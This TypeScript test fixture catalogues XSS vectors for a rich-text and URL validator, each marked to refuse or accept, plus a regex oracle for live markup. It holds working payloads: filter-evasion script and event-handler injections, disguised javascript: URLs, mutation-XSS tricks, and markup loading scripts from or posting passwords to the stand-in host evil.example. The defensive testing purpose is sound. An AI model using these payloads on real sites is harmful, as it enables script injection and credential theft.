/**
 * XSS vectors for rich text and URL fields, shared by the validator's suite (schemas/validator/xss.hardening.test.ts)
 * and the browser's (tests/xss.spec.ts). Every payload that runs calls alert(1) or loads from evil.example, which
 * both suites can observe. `expected` is the security verdict, decided per vector: `refuse` for anything that
 * does something on its own (or would, in some reading), `accept` for markup that is inert as written.
 */

export type VectorClass =
  | 'filter-evasion'
  | 'url-scheme'
  | 'url-path'
  | 'namespace'
  | 'mutation'
  | 'dom-clobbering'
  | 'css'
  | 'srcdoc'
  | 'meta'
  | 'base'
  | 'form'
  | 'harmless';

export interface XssVector {
  id: string;
  class: VectorClass;
  /** A disclaimer (rich text), or for URL vectors a link or image URL. */
  value: string;
  expected: 'refuse' | 'accept';
}

const refuse = (cls: VectorClass, values: readonly string[]) =>
  values.map((value) => ({ class: cls, value, expected: 'refuse' as const }));
const accept = (cls: VectorClass, values: readonly string[]) =>
  values.map((value) => ({ class: cls, value, expected: 'accept' as const }));

const FILTER_EVASION = refuse('filter-evasion', [
  '<script>alert(1)</script>',
  '<SCRIPT>alert(1)</SCRIPT>',
  '<ScRiPt>alert(1)</sCrIpT>',
  '<script/x>alert(1)</script>',
  '<script\n>alert(1)</script>',
  '<script src="https://evil.example/x.js"></script>',
  '<script src=//evil.example/x.js></script>',
  '<scr<script>ipt>alert(1)</script>',
  '<<script>alert(1)//<</script>',
  '<p>x</p><script>alert(1)</script><p>y</p>',
  '<img src=x onerror=alert(1)>',
  '<IMG SRC=x ONERROR=alert(1)>',
  '<img/src/onerror=alert(1)>',
  '<img src=x onerror=alert(1)//',
  '<img src="x" onerror="&#97;lert(1)">',
  '<img src=x:alert(alt) onerror=eval(src) alt=0>',
  '<image src=x onerror=alert(1)>',
  '<p onclick="alert(1)">click</p>',
  '<p ONCLICK="alert(1)">click</p>',
  '<p/onclick=alert(1)>click</p>',
  '<p onclick  =  alert(1)>click</p>',
  '<span onmouseover=alert(1)>hover</span>',
  '<span onpointerenter=alert(1)>hover</span>',
  '<a href="https://depona.example" onclick="alert(1)">x</a>',
  '<a onfocus=alert(1) autofocus href="#x">x</a>',
  '<strong onanimationstart=alert(1)>x</strong>',
  '<h1 onbeforecopy=alert(1)>x</h1>',
  '<li onwheel=alert(1)>x</li>',
  '<body onload=alert(1)>',
  '<BODY ONLOAD=alert(1)>',
  '<html onmouseover=alert(1)>',
  '<frameset onload=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<textarea autofocus onfocus=alert(1)>x</textarea>',
  '<select autofocus onfocus=alert(1)></select>',
  '<button autofocus onfocus=alert(1)>x</button>',
  '<keygen autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<video poster=javascript:alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe src=https://evil.example/></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<object data="https://evil.example/x.swf"></object>',
  '<embed src="javascript:alert(1)">',
  '<applet code="x"></applet>',
  '<portal src=https://evil.example/></portal>',
  '<link rel=import href=https://evil.example/>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- --!><img src=x onerror=alert(1)>-->',
  '<?xml x?><img src=x onerror=alert(1)>',
  '<![CDATA[><img src=x onerror=alert(1)>]]>',
  '<!-- a comment that other parsers may end early --><p>x</p>',
  '<!--[if IE]><script>alert(1)</script><![endif]-->',
  '<p title="x" onclick=alert(1)>x</p>',
  '<td onclick=alert(1)>x</td>',
  '<tr onmouseover=alert(1)><td>x</td></tr>',
  '<caption onclick=alert(1)>x</caption>',
  '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
  '<xss onafterscriptexecute=alert(1)><script>1</script>',
  '<custom-element onclick=alert(1)>x</custom-element>',
  '<div onclick=alert(1)>x</div>',
]);

/** Schemes that run code, each in every disguise browsers undo: case, entities, whitespace and control characters. */
const SCHEMES = ['javascript:alert(1)', 'vbscript:msgbox(1)', 'data:text/html,<script>alert(1)</script>'] as const;
const DISGUISES: readonly ((url: string) => string)[] = [
  (u) => u,
  (u) => u.toUpperCase().replace('ALERT', 'alert'),
  (u) => u.replace(/^(\w)(\w)/, (_m, a: string, b: string) => `${a.toUpperCase()}${b}`),
  (u) => ` ${u}`,
  (u) => `\t${u}`,
  (u) => `\n${u}`,
  (u) => `\u0001${u}`,
  (u) => `${u.slice(0, 4)}\t${u.slice(4)}`,
  (u) => `${u.slice(0, 4)}\n${u.slice(4)}`,
  (u) => `${u.slice(0, 4)}\r${u.slice(4)}`,
  (u) => `${u.slice(0, 4)}&#9;${u.slice(4)}`,
  (u) => `${u.slice(0, 4)}&#x0A;${u.slice(4)}`,
  (u) => `${u.slice(0, 4)}&Tab;${u.slice(4)}`,
  (u) => `&#${u.charCodeAt(0)};${u.slice(1)}`,
  (u) => `&#x${u.charCodeAt(0).toString(16)};${u.slice(1)}`,
  (u) => `&#${u.charCodeAt(0)}${u.slice(1)}`,
  (u) => `&#0000${u.charCodeAt(0)};${u.slice(1)}`,
  (u) => u.replace(':', '&colon;'),
  (u) => u.replace(':', '&#58;'),
  (u) => [...u.slice(0, u.indexOf(':') + 1)].map((c) => `&#${c.charCodeAt(0)};`).join('') + u.slice(u.indexOf(':') + 1),
];
const URL_SCHEME_VECTORS = SCHEMES.flatMap((scheme) =>
  refuse(
    'url-scheme',
    DISGUISES.map((disguise) => `<a href="${disguise(scheme).replace(/"/g, '&quot;')}">x</a>`),
  ),
);

/** Paths that are not paths: a browser reads them as another host, or as something else entirely. */
const OFF_SITE_PATHS = [
  '//evil.example',
  '//evil.example/x',
  '/\\evil.example',
  '\\/evil.example',
  '\\\\evil.example',
  '/\t/evil.example',
  '/\n/evil.example',
  '/\r/evil.example',
  '/&#47;evil.example',
  '&#47;&#47;evil.example',
  '/&#92;evil.example',
  'ftp://evil.example/',
  'file:///etc/passwd',
  'intent://evil.example#Intent;end',
  'jar:https://evil.example!/',
  ' https://evil.example',
];
const URL_PATH_VECTORS = [
  ...refuse(
    'url-path',
    OFF_SITE_PATHS.map((href) => `<a href="${href}">x</a>`),
  ),
  ...accept('url-path', [
    '<a href="/de-de/agb/">AGB</a>',
    '<a href="https://www.depona.example/de-de/">x</a>',
    '<a href="/x?a=1&amp;b=2">x</a>',
    '<a href="/%2F%2Fevil.example">x</a>',
    '<a href="#top">x</a>',
  ]),
];

const NAMESPACE = refuse('namespace', [
  '<svg><script>alert(1)</script></svg>',
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><a xlink:href="javascript:alert(1)"><text y="20">x</text></a></svg>',
  '<svg><a href="javascript:alert(1)"><text y="20">x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><set attributeName=href to=javascript:alert(1)>',
  '<svg><animate attributeName=href values=javascript:alert(1) /><a><text>x</text></a></svg>',
  '<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg><image href=https://evil.example/x.png /></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(1)</script></svg>#x"/></svg>',
  '<svg><title><img src=x onerror=alert(1)></title></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<svg><p><style><img src=x onerror=alert(1)>',
  '<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>',
  '<math href="javascript:alert(1)">x</math>',
  '<math><mi xlink:href="data:x,<script>alert(1)</script>">x</mi></math>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math><mi><table><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">',
  '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=alert(1)>"></style></h1>',
  '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>',
  '<svg><desc><p>x</p></desc></svg>',
  '<math><p>x</p></math>',
]);

const MUTATION = [
  ...refuse('mutation', [
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    '<listing>&lt;img src=x onerror=alert(1)&gt;</listing>',
    '<xmp><img src=x onerror=alert(1)></xmp>',
    '<textarea><img src=x onerror=alert(1)></textarea>',
    '<title><img src=x onerror=alert(1)></title>',
    '<iframe><img src=x onerror=alert(1)></iframe>',
    '<noembed><img src=x onerror=alert(1)></noembed>',
    '<noframes><img src=x onerror=alert(1)></noframes>',
    '<plaintext><img src=x onerror=alert(1)>',
    '<style></style><img src=x onerror=alert(1)>',
    '<template><img src=x onerror=alert(1)></template>',
    '<p><a title="</p><img src=x onerror=alert(1)>">x</a></p>',
    '<a href="https://depona.example" title="&quot;><img src=x onerror=alert(1)>">x</a>',
    '<p title=`x`onclick=alert(1)>x</p>',
    '<span title="x"\tonclick=alert(1)>x</span>',
    '<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=alert(1)>">',
    '<a href="&#x6A;avascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="javas&#99;ript:alert(1)">x</a>',
    '<p>x<style><!--</style><img src=x onerror=alert(1)>--></p>',
  ]),
  ...accept('mutation', [
    '<p>&lt;img src=x onerror=alert(1)&gt;</p>',
    '<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>',
    '<p>&amp;lt;script&amp;gt;</p>',
    '<p>a &lt; b &gt; c</p>',
    '<p><a href="https://depona.example/"><strong>x</strong></a></p>',
    '<p>x<a href="/a">1<a href="/b">2</a></a></p>',
    '<ul><li>a<li>b</ul>',
    '<p>x</P><p>y',
  ]),
];

const DOM_CLOBBERING = refuse('dom-clobbering', [
  '<p id="cookie">x</p>',
  '<a id="location" href="https://evil.example">x</a>',
  '<a id=defaultView href=https://evil.example>x</a>',
  '<span id="__proto__">x</span>',
  '<p name="getElementById">x</p>',
  '<a id=x><a id=x name=y href="javascript:alert(1)">x</a>',
  '<form name="body"></form>',
  '<img name="getElementById" src="/x.png">',
  '<form id="config"><input name="url" value="https://evil.example"></form>',
  '<iframe name="alert"></iframe>',
  '<object name="document"></object>',
  '<embed name="forms">',
  '<a id="CONFIG_BASE" href="https://evil.example/">x</a>',
  '<span name="attributes">x</span>',
  '<h2 id="__NEXT_DATA__">x</h2>',
  '<a id="dataLayer" name="push" href="https://evil.example/">x</a>',
  '<ul id="navigator"><li>x</li></ul>',
  '<strong id="ps-theme">x</strong>',
]);

const CSS = [
  ...refuse('css', [
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<p style="background-image:url(https://evil.example/x.png)">x</p>',
    '<p style="color:red">x</p>',
    '<p style="text-align:center;position:fixed;top:0;left:0;width:100%;height:100%">x</p>',
    '<p style="behavior:url(x.htc)">x</p>',
    '<p style="-moz-binding:url(https://evil.example/x.xml#x)">x</p>',
    '<p style="width:expression(alert(1))">x</p>',
    '<p style="text-align:center/**/;color:red">x</p>',
    '<p style="text-align:\\63 enter">x</p>',
    '<p style="text-align:center !important">x</p>',
    '<p style="text-align:inherit">x</p>',
    '<span style="text-align:center">x</span>',
    '<h1 style="text-align:center">x</h1>',
    '<a href="/x" style="display:block">x</a>',
    '<style>@import "https://evil.example/x.css";</style>',
    '<style>p{background:url(https://evil.example/x)}</style>',
    '<STYLE>body{background:red}</STYLE>',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<p style="font-family:\'x\';}</style><script>alert(1)</script>">x</p>',
    '<p style="background:url(&#106;avascript:alert(1))">x</p>',
    '<p style="x:expr/**/ession(alert(1))">x</p>',
    '<p style="content:\'\\003C script\\003E\'">x</p>',
  ]),
  ...accept('css', [
    '<p style="text-align: center">x</p>',
    '<p style="TEXT-ALIGN: RIGHT">x</p>',
    '<p style="text-align:justify;">x</p>',
    '<p style="text-align: left; text-align: right">x</p>',
  ]),
];

const SRCDOC = refuse('srcdoc', [
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  '<iframe srcdoc=&lt;img&Tab;src&equals;x&Tab;onerror&equals;alert&lpar;1&rpar;&gt;></iframe>',
  '<IFRAME SRCDOC="<img src=x onerror=alert(1)>"></IFRAME>',
  '<iframe srcdoc="<meta http-equiv=refresh content=0;url=javascript:alert(1)>"></iframe>',
  '<p srcdoc="<script>alert(1)</script>">x</p>',
  '<a srcdoc="<script>alert(1)</script>" href="/x">x</a>',
  '<iframe sandbox="allow-scripts" srcdoc="<script>alert(1)</script>"></iframe>',
  '<frame srcdoc="<script>alert(1)</script>">',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
]);

const META = refuse('meta', [
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<META HTTP-EQUIV="refresh" CONTENT="0; URL=https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=data:text/html,<script>alert(1)</script>">',
  '<meta charset="utf-7">+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '<meta http-equiv="Content-Security-Policy" content="default-src *">',
  '<meta name="referrer" content="unsafe-url">',
  '<meta http-equiv="set-cookie" content="session=x">',
  '<p>x</p><meta http-equiv=refresh content=0;url=https://evil.example/>',
  '<svg><meta http-equiv=refresh content=0;url=https://evil.example/></svg>',
]);

const BASE = refuse('base', [
  '<base href="https://evil.example/">',
  '<base href="javascript:alert(1)//">',
  '<BASE HREF="//evil.example/">',
  '<base target="_top">',
  '<base href=https://evil.example/ target=x>',
  '<p>x</p><base href="https://evil.example/">',
  '<base href="/\\evil.example/">',
  '<svg><base href="https://evil.example/"></svg>',
]);

const FORM = refuse('form', [
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<form action="https://evil.example/"><input name="password" type="password"><button>Sign in</button></form>',
  '<form><button formaction="javascript:alert(1)">x</button></form>',
  '<button formaction="https://evil.example/" form="f">x</button>',
  '<form id="f"></form><button form="f" formaction="javascript:alert(1)">x</button>',
  '<input type="image" src="x" formaction="javascript:alert(1)">',
  '<input type="submit" formaction="https://evil.example/">',
  '<isindex action="javascript:alert(1)" type="image">',
  '<form method="post" action="/api/session"><input name="username"></form>',
  '<textarea form="f" name="x">y</textarea>',
  '<output name="x" onforminput=alert(1)>',
  '<FORM ACTION=//evil.example><INPUT TYPE=SUBMIT></FORM>',
]);

const HARMLESS = accept('harmless', [
  '<p>Depona GmbH vermittelt Einlagen bei Partnerbanken.</p>',
  '<p>Capital at risk. <a href="https://www.depona.example/en-gb/risk/">Read more</a></p>',
  '<h1>a</h1><h2>b</h2><h3>c</h3><h4>d</h4><h5>e</h5><h6>f</h6>',
  '<p><strong>strong</strong> <em>em</em> <u>u</u> <del>del</del> x<sup>2</sup> H<sub>2</sub>O <span>span</span></p>',
  '<ul><li>one</li><li>two</li></ul>',
  '<p>Mail <a href="mailto:service@depona.example">us</a> or <a href="tel:+4930123456">call</a>.</p>',
  '<p>onclick=alert(1) is only text here</p>',
  '<p>javascript:alert(1) is only text here</p>',
  '<p>5 &gt; 3 &amp;&amp; 2 &lt; 4</p>',
  '<p>Preise in &euro; &ndash; Stand 2026</p>',
  '<a>anchor without href</a>',
  'plain text without markup',
  '<p>unclosed paragraph',
  '<p>x</p>\n<p>y</p>',
  '<p>Zinsen: 3,5&nbsp;% p.&nbsp;a.</p>',
  '<a href="https://www.depona.example/de-de/risikohinweise/">Risikohinweise</a>',
  '<p style="text-align: center">Capital at risk.</p>',
]);

export const RICH_TEXT_VECTORS: readonly XssVector[] = [
  ...FILTER_EVASION,
  ...URL_SCHEME_VECTORS,
  ...URL_PATH_VECTORS,
  ...NAMESPACE,
  ...MUTATION,
  ...DOM_CLOBBERING,
  ...CSS,
  ...SRCDOC,
  ...META,
  ...BASE,
  ...FORM,
  ...HARMLESS,
].map((v, i) => ({
  id: `rt-${String(i + 1).padStart(3, '0')}-${v.class}`,
  ...v,
}));

/** For link and image fields: the same scheme disguises, and the paths that are not paths. */
export const URL_VECTORS: readonly XssVector[] = [
  ...SCHEMES.flatMap((scheme) =>
    refuse(
      'url-scheme',
      DISGUISES.map((disguise) => disguise(scheme)),
    ),
  ),
  ...refuse('url-path', [
    '//evil.example/x',
    '/\\evil.example/x',
    '/\t/evil.example/x',
    '/\n/evil.example/x',
    '/\r/evil.example/x',
    '\\\\evil.example/x',
    '\\/evil.example/x',
    '/\u0000/evil.example/x',
    '&#47;&#47;evil.example/x',
    '/&#92;evil.example/x',
    ' /x',
    '/x ',
    'ftp://evil.example/x',
    'x.png',
    './x.png',
  ]),
  ...accept('url-path', [
    '/assets/logo.svg',
    '/x?a=1&b=2',
    '/%2F%2Fevil.example/x',
    '/a\\b',
    'https://www.depona.example/logo.svg',
  ]),
].map((v, i) => ({ id: `url-${String(i + 1).padStart(3, '0')}-${v.class}`, ...v }));

// --- An oracle of its own: what counts as live markup, by pattern, independently of the validator's allow-list. ---

const LIVE_ELEMENTS =
  /<\s*(script|iframe|frame|frameset|object|embed|applet|meta|base|form|style|link|svg|math|img|image|input|button|textarea|select|template|noscript|video|audio|source|marquee|details|isindex|keygen|xmp|listing|plaintext|noembed|noframes|title|body|html|portal|table|td|tr|caption|output)[\s/>]/gi;
const LIVE_ATTRIBUTES =
  /<[^>]*?[\s/"'`](on[a-z]+|srcdoc|formaction|action|xlink:href|id|name|form|background|poster|data|src)\s*=/gi;
const STYLE_VALUE = /<[^>]*?[\s/"']style\s*=\s*("[^"]*"|'[^']*'|[^\s>]+)/gi;
const HREF_VALUE = /<[^>]*?[\s/"']href\s*=\s*("[^"]*"|'[^']*'|[^\s>]+)/gi;

function decodeForOracle(value: string): string {
  const named: Record<string, string> = {
    colon: ':',
    tab: '\t',
    newline: '\n',
    sol: '/',
    bsol: '\\',
    quot: '"',
    amp: '&',
  };
  return value.replace(/&(#x[0-9a-f]+|#\d+|[a-z]+);?/gi, (m, b: string) =>
    b[0] === '#'
      ? String.fromCodePoint(b[1]?.toLowerCase() === 'x' ? parseInt(b.slice(2), 16) : parseInt(b.slice(1), 10))
      : (named[b.toLowerCase()] ?? m),
  );
}

/** Each piece of live markup in `html`: elements that act, event handlers, active attributes, styles beyond alignment, links that run code or leave the site. */
export function liveMarkup(html: string): string[] {
  const found: string[] = [];
  for (const m of html.matchAll(LIVE_ELEMENTS)) found.push(`<${m[1]!.toLowerCase()}>`);
  for (const m of html.matchAll(LIVE_ATTRIBUTES)) found.push(`${m[1]!.toLowerCase()}=`);
  for (const m of html.matchAll(STYLE_VALUE)) {
    const value = decodeForOracle(m[1]!.replace(/^["']|["']$/g, ''));
    if (!/^\s*(text-align\s*:\s*(left|right|center|justify)\s*;?\s*)+$/i.test(value)) found.push(`style="${value}"`);
  }
  for (const m of html.matchAll(HREF_VALUE)) {
    // eslint-disable-next-line no-control-regex -- browsers drop these before reading a scheme
    const value = decodeForOracle(m[1]!.replace(/^["']|["']$/g, '')).replace(/[\u0000-\u0020]/g, '');
    if (/^(javascript|vbscript|data):/i.test(value) || /^[/\\]{2}/.test(value) || /^\/?\\/.test(value))
      found.push(`href="${value}"`);
  }
  return found;
}
